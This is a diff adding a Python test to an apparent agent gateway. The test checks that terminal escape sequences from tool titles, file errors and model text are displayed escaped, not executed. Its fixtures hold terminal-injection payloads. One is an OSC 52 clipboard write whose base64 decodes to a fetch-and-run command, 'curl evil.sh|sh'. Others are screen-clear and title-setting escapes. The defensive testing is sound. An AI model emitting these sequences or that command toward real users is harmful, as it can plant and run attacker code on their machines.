@@ -152,3 +152,15 @@ def test_quiet_and_a_pipe_show_no_live_view(upstream: ScriptedUpstream, opencode
     while "opencode-gateway: done" not in terminal.text and time.monotonic() < deadline:
         time.sleep(0.05)
     assert "opencode-gateway: done" in terminal.text and "openai/gpt-4o-mini · " not in terminal.text
+
+
+def test_what_the_agent_writes_cannot_command_the_terminal() -> None:
+    """A tool's title (the agent's command), a tool's error (a file the agent read) and the model's
+    text reach a person's terminal; ESC there starts a terminal command (clear the screen, set its
+    title, write the clipboard with OSC 52). Rich passes it through: it is shown, not obeyed."""
+    clipboard = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x1b\\"
+    text = shown(ToolResult("s", call_id="1", tool="bash", title=f"echo hi{clipboard}"),
+                 ToolResult("s", call_id="2", tool="read", title="x", is_error=True, output="\x1b[2Jgone"),
+                 TextDelta("s", text="answer\x1b]0;owned\x07\n"), TextDelta("s", text="tail\x9b2J"))
+    assert "\x1b" not in text and "\x9b" not in text and "\x07" not in text
+    assert "\\x1b]52;c;" in text and "\\x1b[2Jgone" in text and "answer\\x1b]0;owned" in text  # BEL: rich drops it
